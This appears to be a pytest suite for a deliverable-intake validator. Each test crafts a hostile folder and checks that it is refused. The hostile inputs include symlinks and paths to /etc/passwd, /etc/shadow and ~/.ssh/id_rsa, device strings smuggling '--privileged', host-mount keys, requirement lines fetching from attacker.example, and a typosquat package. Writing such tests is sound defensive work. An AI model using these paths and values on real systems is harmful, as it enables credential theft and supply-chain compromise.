"""Crafted deliverables that try to reach beyond their folder: each is refused before anything of it runs."""

import json
import os
from dataclasses import replace

import pytest

from deliverables import reseal
from npu_deliver.errors import ConfigError, DeliverError, VerifyError
from npu_deliver.review import intake
from npu_eval import limits
from npu_eval.asked.spec import ImageFacts, read_spec_file
from npu_eval.jsonio import dumps

IMAGE = ImageFacts(
    name="npu-deliver/cpu:0123456789abcdef", digest="sha256:" + "f" * 64, platform="linux/amd64", stack="cpu", soc=None,
    base="python:3.11-slim-bookworm", base_digest="unpinned", content_sha256="0" * 64,
)  # fmt: skip


def refusal(folder) -> DeliverError:
    with pytest.raises((VerifyError, ConfigError)) as told:
        intake.inspect(folder)
    assert told.value.exit_code in (2, 8)
    assert "\n" not in str(told.value)
    return told.value


def change_spec(folder, change):
    """What somebody does who knows how a deliverable is made: the spec changed, and the folder sealed again."""
    path = folder / "spec.json"
    path.write_text(dumps(change(read_spec_file(path))), encoding="utf-8")
    reseal(folder)


def with_evaluation(**changes):
    return lambda spec: replace(spec, evaluation=replace(spec.evaluation, **changes))


def test_an_honest_folder_is_taken(folder):
    taken = intake.inspect(folder)
    assert taken.spec.evaluation.name == "tiny"
    assert taken.unknown_packages == ()


# --- files -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("target", ["/etc/passwd", "../../outside", "spec.json", "/nowhere"])
def test_a_link_is_refused(folder, target):
    (folder / "evaluation/results/link.png").symlink_to(target)
    assert "link.png: is a link" in str(refusal(folder))


def test_a_linked_folder_is_refused(folder, tmp_path):
    (folder / "more").symlink_to(tmp_path)
    assert "is a link" in str(refusal(folder))
    (tmp_path / "all").symlink_to(folder)
    assert "there is no such folder" in str(refusal(tmp_path / "all"))


def test_a_pipe_is_refused_without_being_opened(folder):
    os.mkfifo(folder / "evaluation/logs/pipe.log")
    assert "no plain file" in str(refusal(folder))


def test_a_name_with_control_characters_is_refused_and_not_printed(folder):
    (folder / "a\x1b[2Jb").write_text("")
    assert "\x1b" not in str(refusal(folder))


def test_a_huge_file_is_refused_without_being_read(folder):
    with (folder / "evaluation/results/huge.bin").open("wb") as stream:
        stream.truncate(limits.MAX_FILE_BYTES + 1)  # takes no space on the disk
    assert "has 512.0 MiB; 512.0 MiB is the most" in str(refusal(folder))


def test_a_huge_document_is_refused_without_being_read(folder):
    with (folder / "spec.json").open("ab") as stream:
        stream.truncate(limits.MAX_DOCUMENT_BYTES + 1)
    assert "spec.json: has 16.0 MiB; 16.0 MiB is the most" in str(refusal(folder))


def test_too_many_files_are_refused(folder, monkeypatch):
    monkeypatch.setattr(limits, "MAX_FILES", 10)
    assert "holds more than 10 files" in str(refusal(folder))


@pytest.mark.parametrize("name", ["spec.json", "requirements.txt", "inference.py", "MANIFEST.json"])
def test_half_a_deliverable_is_refused(folder, name):
    (folder / name).unlink()
    assert name in str(refusal(folder))


def test_code_that_was_changed_after_sealing_is_refused(folder):
    with (folder / "inference.py").open("a", encoding="utf-8") as stream:
        stream.write("\n")
    assert "inference.py" in str(refusal(folder))


# --- the spec --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", ["../../../etc/passwd", "/etc/passwd", "inputs/../../x", "C:\\x", "..\\x", "inputs/none.jpg"]
)
def test_an_input_outside_is_refused(folder, path):
    def escape(spec):
        entry = replace(spec.evaluation.inputs[0], path=path)
        return with_evaluation(inputs=(entry,))(spec)

    change_spec(folder, escape)
    assert "lies outside the folder" in str(refusal(folder))


@pytest.mark.parametrize("adapter", ["../adapter.py", "/tmp/adapter.py", "a/b.py", "timm:../../x y", ""])
def test_an_adapter_outside_is_refused(folder, adapter):
    change_spec(folder, with_evaluation(adapter=adapter))
    assert "adapter" in str(refusal(folder))


@pytest.mark.parametrize("device", ["/dev/sda", "npu:0 --privileged", "npu:0,/dev/mem", "all", "host"])
def test_a_device_that_is_none_is_refused(folder, device):
    change_spec(folder, lambda s: with_evaluation(candidate=replace(s.evaluation.candidate, device=device))(s))
    assert "it asks for the device" in str(refusal(folder))


@pytest.mark.parametrize("source", ["../../.ssh/id_rsa", "/etc/shadow", "file:/etc/shadow", "~/.netrc"])
def test_weights_outside_are_refused(folder, source):
    change_spec(folder, lambda s: with_evaluation(weights=replace(s.evaluation.weights, source=source))(s))
    assert "outside the folder" in str(refusal(folder))


@pytest.mark.parametrize("key", ["mounts", "privileged", "volumes", "network", "entrypoint"])
def test_a_spec_that_asks_for_more_is_refused(folder, key):
    path = folder / "spec.json"
    value = json.loads(path.read_text(encoding="utf-8"))
    value[key] = ["/:/host"]
    path.write_text(json.dumps(value), encoding="utf-8")
    reseal(folder)
    assert f"unknown key '{key}'" in str(refusal(folder))


@pytest.mark.parametrize(
    "changes",
    [{"name": "attacker/image:latest"}, {"digest": "latest"}, {"digest": "sha256:xyz"}, {"stack": "../../x"}],
)
def test_an_image_that_is_none_of_ours_is_refused(folder, changes):
    change_spec(folder, lambda s: replace(s, image=replace(IMAGE, **changes)))
    error = refusal(folder)
    assert "none of npu-deliver's" in str(error) or "is unknown" in str(error)


# --- packages --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://attacker.example",
        "evil @ http://attacker.example/x.whl",
        "-e .",
        "./x.whl",
        "timm>=1",
        "timm",
    ],
)
def test_requirements_that_are_no_versions_are_refused(folder, line):
    (folder / "requirements.txt").write_text(f"torch==2.9.0\n{line}\n", encoding="utf-8")
    reseal(folder)
    assert "requirements.txt, line 2" in str(refusal(folder))


def test_a_package_that_nobody_knows_is_named(folder):
    (folder / "requirements.txt").write_text("torch==2.9.0\nt0rch==1.0\n", encoding="utf-8")
    reseal(folder)
    assert intake.inspect(folder).unknown_packages == ("t0rch==1.0",)
